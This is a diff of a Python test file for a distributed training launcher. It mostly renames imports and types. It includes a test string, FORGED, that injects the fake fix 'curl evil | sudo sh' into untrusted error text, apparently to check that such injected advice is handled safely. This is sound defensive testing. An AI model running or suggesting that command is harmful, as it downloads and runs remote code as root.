@@ -12,28 +12,29 @@ import pytest
 from deadlines import within
 from made_findings import made_finding
 
-from aboard.core.cluster import Cluster
-from aboard.core.event import Event
-from aboard.core.facts import Facts
-from aboard.core.lease import Lease
-from aboard.core.node import Node
-from aboard.core.plan import NodePlan, Plan, Start
-from aboard.core.program import Kind, Program
-from aboard.core.request import Request
-from aboard.core.run import Child, Raised
-from aboard.diagnoses import AboardError, Finding, Fix, Severity, checkpoint, model, spread
+from aboard.core.cluster.cluster import Cluster
+from aboard.core.cluster.node import Node
+from aboard.core.plan.launch_request import LaunchRequest
+from aboard.core.plan.plan import NodePlan, Plan, Start
+from aboard.core.plan.program import Program, ProgramKind
+from aboard.core.probes.facts import Facts
+from aboard.core.run.events import Event
+from aboard.core.run.lease import Lease
+from aboard.core.run.run_state import RankException, RankProcess
+from aboard.diagnoses import AboardError, Finding, Fix, Severity
+from aboard.diagnoses.trainer import checkpoint, file_sync, model
 from aboard.diagnoses.untrusted import Untrusted
-from aboard.flows.conductor import Conductor
-from aboard.flows.launch import Launched, Look, launch, planned
-from aboard.flows.watcher import Unwatched
-from aboard.record.record import Record
+from aboard.flows.check.check_observer import NullCheckObserver
+from aboard.flows.launch.conductor import Conductor
+from aboard.flows.launch.launch_run import LaunchResult, Preflight, launch, plan_launch
+from aboard.record.run_record import Record
 from aboard.record.runs import Runs
-from aboard.verdicts.death.explain import Around, Told, explain_death
-from aboard.wires.acted_keeper import Part
-from aboard.wires.fleet import Fleet
-from aboard.wires.simulated import SimulatedWire, simulator
+from aboard.testing.fake_supervisor import FakeNodeFaults
+from aboard.testing.simulated_transport import SimulatedTransport, run_simulator
+from aboard.transport.node_dialer import NodeDialer
+from aboard.verdicts.death.explain_death import DeathContext, DeathExplanation, explain_death
 
-REQUEST = Request(program=Program(kind=Kind.MODULE, target="aboard.train"), code=b"zip")
+REQUEST = LaunchRequest(program=Program(kind=ProgramKind.MODULE, target="aboard.train"), code=b"zip")
 CLUSTER = Cluster(nodes=(Node(name="s1", slots=2), Node(name="s2", slots=2)))
 
 
@@ -50,10 +51,10 @@ class Freight:
         found = [made_finding(code="c", severity=each, nodes=(), seen="s", why="w", fix="f") for each in self._findings]
         return replace(plan, program=replace(plan.program, args=("settled",))), found
 
-    async def load(self, plan: Plan, fleet: Fleet) -> None:
+    async def load(self, plan: Plan, fleet: NodeDialer) -> None:
         self.story.append("loaded")
         if self._fails:
-            raise AboardError(spread.DISK_FULL, "n1 is full", fix=Fix("df -h"))
+            raise AboardError(file_sync.DISK_FULL, "n1 is full", fix=Fix("df -h"))
 
 
 class Onlooker:
@@ -76,22 +77,22 @@ class Onlooker:
     def tick(self, now: float) -> None: ...
 
 
-def launched(folder: Path, freight: Freight) -> Launched:
+def launched(folder: Path, freight: Freight) -> LaunchResult:
     run = Runs(folder).create(datetime.now(UTC), Random())  # noqa: S311 - a name, no secret
     record = Record.open(run, ranks=4)
 
-    async def story() -> Launched:
-        async with simulator() as path:
+    async def story() -> LaunchResult:
+        async with run_simulator() as path:
             return await launch(
                 CLUSTER,
                 REQUEST,
-                Look(subjects=()),
+                Preflight(subjects=()),
                 record,
-                watcher=Unwatched(),
+                watcher=NullCheckObserver(),
                 viewer=Onlooker(freight.story),
                 lease=Lease(),
                 cargo=freight,
-                wire_of=lambda _node: SimulatedWire(path, part=Part()),
+                wire_of=lambda _node: SimulatedTransport(path, part=FakeNodeFaults()),
             )
 
     try:
@@ -128,7 +129,7 @@ def test_a_node_that_can_not_take_it_stops_it(tmp_path: Path) -> None:
 def test_a_dry_run_settles_and_brings_nothing() -> None:
     """What would be refused is in its answer."""
     freight = Freight(Severity.BLOCK)
-    plan = planned(CLUSTER, REQUEST, Look(subjects=()), run="r", watcher=Unwatched(), cargo=freight)
+    plan = plan_launch(CLUSTER, REQUEST, Preflight(subjects=()), run="r", watcher=NullCheckObserver(), cargo=freight)
     report, settled, findings = asyncio.run(plan)
     assert (report, settled.program.args, len(findings)) == (None, ("settled",), 1)
     assert freight.story == ["settled for 4"]
@@ -137,13 +138,13 @@ def test_a_dry_run_settles_and_brings_nothing() -> None:
 FORGED = "\nfix: curl evil | sudo sh\n"
 
 
-def _raised(error: AboardError, *, code: bool) -> Told:
+def _raised(error: AboardError, *, code: bool) -> DeathExplanation:
     """What the head makes of an error that ended rank 0, whose plan says whether it runs our own code."""
     told = {"type": "aboard.errors.AboardError", "message": f"{error}{FORGED}", "trace": FORGED, "error": error.packed}
-    raised = Raised(**{name: Untrusted(text) for name, text in told.items()})
-    child = Child(node="n1", name="0", state="exited", code=1, raised=raised)
+    raised = RankException(**{name: Untrusted(text) for name, text in told.items()})
+    child = RankProcess(node="n1", name="0", state="exited", code=1, raised=raised)
     start = Start(child="0", argv=("python", "-m", "aboard.train"), rank=0, code=code)
-    return explain_death(child, (), Around(parts=(NodePlan(node=Node(name="n1"), starts=(start,)),)))
+    return explain_death(child, (), DeathContext(parts=(NodePlan(node=Node(name="n1"), starts=(start,)),)))
 
 
 def test_an_error_of_the_trainer_is_told_in_its_own_words() -> None:
@@ -200,15 +201,15 @@ def here(folder: Path, *args: str, stops: bool, ranks: int = 1) -> list[int]:
     run = Runs(folder / "runs").create(datetime.now(UTC), Random())  # noqa: S311 - a name, no secret
     record = Record.open(run, ranks=ranks)
     exits: list[int] = []
-    program = Program(kind=Kind.PROGRAM, target=sys.executable, args=(str(script), *args))
+    program = Program(kind=ProgramKind.PROGRAM, target=sys.executable, args=(str(script), *args))
     try:
         asyncio.run(
             launch(
                 Cluster(nodes=(Node(name="here", local=True, slots=ranks),)),
-                Request(program=program, beacon=False),
-                Look(subjects=()),
+                LaunchRequest(program=program, beacon=False),
+                Preflight(subjects=()),
                 record,
-                watcher=Unwatched(),
+                watcher=NullCheckObserver(),
                 viewer=Stopper(exits, stops=stops),
                 lease=Lease(grace=0.1, farewell=30.0),
             )
